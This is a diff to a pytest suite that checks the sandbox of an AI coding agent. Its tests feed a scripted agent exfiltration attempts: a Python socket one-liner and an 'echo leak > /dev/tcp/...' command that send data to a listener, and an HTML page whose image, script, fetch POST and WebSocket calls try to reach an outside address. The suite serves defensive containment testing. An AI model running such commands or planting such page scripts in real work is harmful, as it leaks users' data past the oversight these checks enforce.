@@ -12,7 +12,6 @@ import os
 import resource
 import shutil
 import signal
-import socket
 import stat
 import subprocess
 import sys
@@ -24,6 +23,7 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+from listener import listening, outside_address
 from procs import gone, kill_all, tag
 from scripted_model import ScriptedModel, as_json, call
 from user_repo import (
@@ -123,33 +123,45 @@ def test_cd_dotdot_out_of_the_checkout_writes_nothing(place: Path) -> None:
 
 
 def test_bash_cannot_connect_to_a_loopback_listener(place: Path) -> None:
-    got: list[bytes] = []
-    with socket.socket() as server:
-        server.bind(("127.0.0.1", 0))
-        server.listen()
-        server.settimeout(0.2)
-        port = server.getsockname()[1]
-        stop = threading.Event()
-
-        def accept() -> None:
-            while not stop.is_set():
-                try:
-                    conn, _ = server.accept()
-                except TimeoutError:
-                    continue
-                with conn:
-                    got.append(conn.recv(100) or b"(connected)")
-
-        listener = threading.Thread(target=accept, daemon=True)
-        listener.start()
-        repo = make_repo(place)
+    repo = make_repo(place)
+    with listening() as (port, got):
         python = (f"{sys.executable} -c \"import socket; "
                   f"socket.create_connection(('127.0.0.1', {port}), 3).sendall(b'leak')\"")
         summary = hostile(place, repo, [python, f"echo leak > /dev/tcp/127.0.0.1/{port}"])
-        stop.set()
-        listener.join(2)
     assert got == []
     assert all("exit code 0" not in r for r in tool_results(summary)[:2])
+
+
+def _chromium() -> bool:
+    return bool(shutil.which("chromium") or os.environ.get("STUDIO_CODER_BROWSER"))
+
+
+@pytest.mark.skipif(not (_chromium() and outside_address()),
+                    reason="needs a Chromium and a non-loopback address to listen on")
+def test_the_coders_page_reaches_no_network_from_the_browser(place: Path) -> None:
+    """The page the coder wrote runs in Chromium, outside the sandbox: it must not fetch,
+    load or post anything anywhere but the loopback page server."""
+    from agent_node.loop.visual import ChromiumQA
+
+    repo = make_repo(place, {"index.html": "<h1>plans</h1>\n"})
+    with listening("0.0.0.0") as (port, got):
+        far = f"http://{outside_address()}:{port}"
+        page = (f"<h1>plans</h1><img src='{far}/img'><script src='{far}/js'></script>"
+                f"<script>fetch('{far}/fetch', {{method: 'POST', body: 'leak'}});"
+                f"new WebSocket('ws://{outside_address()}:{port}/ws');</script>\n")
+        ui = {"ui": True, "asks_for_change": True, "page": "index.html", "reason": "page"}
+        coder = ScriptedModel([call("write", path="index.html", content=page),
+                               call("finish", summary="done")])
+        cfg = AgentConfig()
+        cfg.loop.max_rounds = 1
+        qa = ChromiumQA(cfg, model=None, describer=None)
+        try:
+            summary = run(place, repo, ScriptedModel([as_json(ui), as_json(PASS)]), coder,
+                          cfg=cfg, spec=["shows the plans"], qa=qa, test_cmd="true")
+        finally:
+            qa.close()
+    assert any(e["type"] == "qa" for e in read_events(Path(summary["run_dir"])))
+    assert got == []
 
 
 def test_bash_cannot_write_studio_coder_home_or_the_hosts_tmp(place: Path) -> None:
